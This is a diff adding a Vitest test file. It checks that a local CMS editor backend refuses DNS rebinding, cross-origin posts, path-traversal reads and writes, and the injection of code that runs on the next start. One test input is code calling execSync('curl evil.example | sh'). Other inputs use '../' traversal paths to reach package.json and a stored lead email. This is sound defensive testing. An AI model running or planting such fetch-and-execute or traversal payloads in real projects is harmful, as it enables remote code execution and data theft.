@@ -1,0 +1,150 @@
+// The editor's local backend (npm run edit) answers only the editor: the attacks a web page in another tab could make
+// (DNS rebinding, a cross-origin post, writing code that runs on the next start, reading leads or package.json) are
+// refused and change nothing, while a save as the editor sends it still lands in the page file.
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { request, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import cmsConfig from '../../src/editor/cms-config.json' with { type: 'json' };
+import { startEditorBackend } from '../../src/server/editor-backend';
+
+const EDITOR = 'http://127.0.0.1:5173';
+const FILES: Record<string, string> = {
+  'pages.yaml': 'routes: []\n',
+  'site/pages/faq.yaml': 'blocks: []\n',
+  'site/public/images/logo.svg': '<svg/>',
+  'vite.config.ts': 'export default {};\n',
+  'package.json': '{"name":"site","scripts":{"start":"node start.js"}}\n',
+  '.data/outbox/lead.eml': 'From: a lead <lead@example.com>\n',
+  'scripts/start.ts': 'console.log("start");\n',
+};
+
+let root: string;
+let server: Server;
+let port: number;
+const refusals: string[] = [];
+
+beforeAll(async () => {
+  root = mkdtempSync(path.join(tmpdir(), 'editor-backend-'));
+  for (const [file, text] of Object.entries(FILES)) {
+    mkdirSync(path.dirname(path.join(root, file)), { recursive: true });
+    writeFileSync(path.join(root, file), text);
+  }
+  server = await startEditorBackend({ root, port: 0, editorOrigins: [EDITOR], config: cmsConfig.config, log: (line) => refusals.push(line) });
+  port = (server.address() as AddressInfo).port;
+});
+
+afterAll(() => {
+  server?.close();
+  rmSync(root, { recursive: true, force: true });
+});
+
+const read = (file: string) => readFileSync(path.join(root, file), 'utf8');
+
+/** A call of the API with the headers a browser would send; Host is set by hand, as a rebinding page's browser sends its own. */
+function call(body: unknown, { host = `127.0.0.1:${port}`, origin = EDITOR as string | undefined, method = 'POST', raw = undefined as string | undefined } = {}) {
+  return new Promise<{ status: number; text: string; headers: Record<string, unknown> }>((resolve, reject) => {
+    const text = raw ?? JSON.stringify(body);
+    const headers: Record<string, string> = { Host: host, 'Content-Type': 'application/json', ...(origin ? { Origin: origin } : {}) };
+    const sent = request({ host: '127.0.0.1', port, path: '/api/v1', method, headers }, (res) => {
+      let answer = '';
+      res.setEncoding('utf8').on('data', (chunk: string) => (answer += chunk));
+      res.on('end', () => resolve({ status: res.statusCode!, text: answer, headers: res.headers }));
+    });
+    sent.on('error', reject);
+    sent.end(method === 'POST' ? text : undefined);
+  });
+}
+
+/** persistEntry as Decap's proxy backend sends it for one data file. */
+const save = (file: string, raw: string, newPath?: string) => ({
+  action: 'persistEntry',
+  params: { branch: 'main', dataFiles: [{ slug: 'faq', path: file, raw, ...(newPath ? { newPath } : {}) }], assets: [], options: { commitMessage: 'Edit', useWorkflow: false, status: 'draft', collectionName: 'pages' } },
+});
+const getEntry = (file: string) => ({ action: 'getEntry', params: { branch: 'main', path: file } });
+
+describe("the editor's backend", () => {
+  it('saves a page file as the editor sends it, and reads the content back', async () => {
+    const saved = await call(save('site/pages/faq.yaml', 'blocks:\n  - type: faq\n'));
+    expect(saved.status).toBe(200);
+    expect(read('site/pages/faq.yaml')).toBe('blocks:\n  - type: faq\n');
+    expect(JSON.parse((await call(getEntry('pages.yaml'))).text).data).toBe(FILES['pages.yaml']);
+    const pages = JSON.parse((await call({ action: 'entriesByFolder', params: { branch: 'main', folder: 'site/pages', extension: 'yaml', depth: 3 } })).text) as Array<{ file: { path: string } }>;
+    expect(pages.map((entry) => entry.file.path)).toEqual(['site/pages/faq.yaml']);
+    expect(JSON.parse((await call({ action: 'getMedia', params: { branch: 'main', mediaFolder: 'site/public/images' } })).text)).toHaveLength(1);
+  });
+
+  it('answers the preflight of the editor page, and no other', async () => {
+    const editor = await call(undefined, { method: 'OPTIONS' });
+    expect(editor.status).toBe(204);
+    expect(editor.headers['access-control-allow-origin']).toBe(EDITOR);
+    expect((await call(undefined, { method: 'OPTIONS', origin: 'http://evil.example' })).status).toBe(403);
+  });
+
+  it('refuses a DNS-rebinding page: a Host other than its own 127.0.0.1 or localhost port', async () => {
+    for (const host of ['evil.example', `evil.example:${port}`, '127.0.0.1', `127.0.0.1:${port + 1}`, `localhost:${port}.evil.example`]) {
+      const answer = await call(save('site/pages/faq.yaml', 'rebound'), { host, origin: undefined });
+      expect(answer.status, host).toBe(403);
+      expect(answer.text).toMatch(/^\{"error":"Refused: Host/);
+    }
+    expect((await call(getEntry('pages.yaml'), { host: `localhost:${port}` })).status).toBe(200);
+    expect(read('site/pages/faq.yaml')).not.toContain('rebound');
+  });
+
+  it('refuses a page of another origin, even with the right Host', async () => {
+    for (const origin of ['http://evil.example', 'null', `http://127.0.0.1:${port}`, 'http://localhost:5174']) {
+      expect((await call(save('site/pages/faq.yaml', 'cross-origin'), { origin })).status, origin).toBe(403);
+    }
+    expect(read('site/pages/faq.yaml')).not.toContain('cross-origin');
+  });
+
+  it('refuses, with the editor’s own headers, any write outside the content files and leaves the file as it was', async () => {
+    const code = 'import { execSync } from "node:child_process"; execSync("curl evil.example | sh");\n';
+    for (const body of [
+      save('vite.config.ts', code),
+      save('site/pages/../../vite.config.ts', code),
+      save('site/pages/faq.yaml', code, 'vite.config.ts'),
+      save('scripts/start.ts', code),
+      save('site/pages/evil.ts', code),
+      { action: 'persistMedia', params: { branch: 'main', asset: { path: 'vite.config.ts', content: Buffer.from(code).toString('base64'), encoding: 'base64' }, options: { commitMessage: 'x' } } },
+      { ...save('site/pages/faq.yaml', 'ok'), params: { ...save('site/pages/faq.yaml', 'ok').params, assets: [{ path: 'package.json', content: 'e30=', encoding: 'base64' }] } },
+      { action: 'deleteFile', params: { branch: 'main', path: 'package.json', options: { commitMessage: 'x' } } },
+    ]) {
+      const answer = await call(body);
+      expect(answer.status, JSON.stringify(body).slice(0, 120)).toBe(403);
+    }
+    expect(read('vite.config.ts')).toBe(FILES['vite.config.ts']);
+    expect(read('scripts/start.ts')).toBe(FILES['scripts/start.ts']);
+    expect(read('package.json')).toBe(FILES['package.json']);
+    expect(read('site/pages/faq.yaml')).not.toContain('ok');
+  });
+
+  it('refuses, with the editor’s own headers, any read of a stored lead, package.json or the code', async () => {
+    for (const body of [
+      getEntry('package.json'),
+      getEntry('.data/outbox/lead.eml'),
+      getEntry('site/pages/../../package.json'),
+      { action: 'entriesByFiles', params: { branch: 'main', files: [{ path: 'site/pages/faq.yaml' }, { path: 'package.json' }] } },
+      { action: 'entriesByFolder', params: { branch: 'main', folder: '.data', extension: 'eml', depth: 3 } },
+      { action: 'entriesByFolder', params: { branch: 'main', folder: 'site/pages', extension: 'ts', depth: 3 } },
+      { action: 'getMedia', params: { branch: 'main', mediaFolder: '.data/outbox' } },
+      { action: 'getMediaFile', params: { branch: 'main', path: 'site/public/images/../../../package.json' } },
+      { action: 'unpublishedEntries', params: { branch: 'main' } },
+      { action: 'constructor' },
+      [],
+    ]) {
+      const answer = await call(body);
+      expect(answer.status, JSON.stringify(body)).toBe(403);
+      expect(answer.text).not.toMatch(/lead@example\.com|node start\.js|scripts/);
+    }
+    expect(refusals.every((line) => !line.includes('\n'))).toBe(true);
+  });
+
+  it('answers a body that is not JSON with 400 and no stack trace', async () => {
+    const answer = await call(undefined, { raw: '{"action":' });
+    expect(answer.status).toBe(400);
+    expect(answer.text).not.toMatch(/\n\s+at |node_modules/);
+  });
+});
